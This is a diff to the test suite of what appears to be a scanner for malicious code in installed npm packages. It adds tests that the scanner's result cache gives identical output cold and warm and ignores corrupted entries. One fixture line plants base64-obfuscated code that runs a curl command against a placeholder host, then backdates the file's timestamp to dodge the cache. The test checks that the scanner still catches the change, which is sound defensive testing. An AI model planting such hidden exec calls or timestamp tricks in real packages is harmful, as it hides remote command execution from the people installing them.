@@ -1,5 +1,5 @@
 import { execFile } from 'node:child_process';
-import { mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
+import { mkdirSync, mkdtempSync, readdirSync, rmSync, statSync, symlinkSync, utimesSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { dirname, join } from 'node:path';
 import { fileURLToPath } from 'node:url';
@@ -9,7 +9,9 @@ import { afterAll, beforeAll, expect, test } from 'vitest';
 /** The command as it is installed: built, with workers. `npm ci` and `npm run check` build it. */
 const bin = fileURLToPath(new URL('../dist/src/bin.js', import.meta.url));
 const run = promisify(execFile);
-const project = mkdtempSync(join(tmpdir(), 'stowaway-bin-'));
+const home = mkdtempSync(join(tmpdir(), 'stowaway-bin-'));
+const project = join(home, 'project');
+const cache = join(home, 'cache');
 
 beforeAll(() => {
   const files = {
@@ -25,10 +27,10 @@ beforeAll(() => {
   }
   symlinkSync(tmpdir(), join(project, 'node_modules/away'));
 });
-afterAll(() => rmSync(project, { recursive: true, force: true }));
+afterAll(() => rmSync(home, { recursive: true, force: true }));
 
 const command = (...args: readonly string[]) =>
-  run(process.execPath, [bin, ...args], { env: { ...process.env, NO_COLOR: '1' } }).then(
+  run(process.execPath, [bin, ...args], { env: { ...process.env, NO_COLOR: '1', STOWAWAY_CACHE: cache } }).then(
     ({ stdout, stderr }) => ({ code: 0, stdout, stderr }),
     ({ code, stdout, stderr }) => ({ code: code as number, stdout: stdout as string, stderr: stderr as string }),
   );
@@ -43,10 +45,35 @@ test('a project is scanned by workers, the worst told first, and the exit code s
 
 test('one worker or two, the result is the same to the byte', async () => {
   const [one, two] = await Promise.all(
-    ['1', '2'].map(jobs => command(project, '--jobs', jobs, '--format', 'json', '--quiet')),
+    ['1', '2'].map(jobs => command(project, '--jobs', jobs, '--no-cache', '--format', 'json', '--quiet')),
   );
   expect(one?.stdout).toBe(two?.stdout);
   expect(JSON.parse(one?.stdout ?? '').packages).toHaveLength(2);
+});
+
+test('with a cache, cold or warm, the result is the same to the byte, and a changed package is seen', async () => {
+  const scan = () => command(project, '--format', 'json', '--quiet');
+  await command('cache', 'clean');
+  const anew = await command(project, '--no-cache', '--format', 'json', '--quiet');
+  const [cold, warm] = [await scan(), await scan()];
+  expect([cold.stdout, warm.stdout]).toEqual([anew.stdout, anew.stdout]);
+  const file = join(project, 'node_modules/good/index.js');
+  const { mtime } = statSync(file);
+  writeFileSync(file, `require('child_process').exec(atob('Y3VybCBodHRwczovL2MuaW52YWxpZA=='));`);
+  // Attackers set times back.
+  utimesSync(file, mtime, mtime);
+  const changed = await scan();
+  writeFileSync(file, 'module.exports = 1;');
+  expect(JSON.parse(changed.stdout).packages).not.toEqual(JSON.parse(warm.stdout).packages);
+  expect((await scan()).stdout).toBe(anew.stdout);
+});
+
+test('a cache full of rubbish is no cache', async () => {
+  const anew = await command(project, '--no-cache', '--format', 'json', '--quiet');
+  await command(project, '--format', 'json', '--quiet');
+  for (const entry of readdirSync(cache, { recursive: true, withFileTypes: true }))
+    if (entry.isFile()) writeFileSync(join(entry.parentPath, entry.name), 'rubbish');
+  expect((await command(project, '--format', 'json', '--quiet')).stdout).toBe(anew.stdout);
 });
 
 test('what cannot be done is said in one line', async () => {
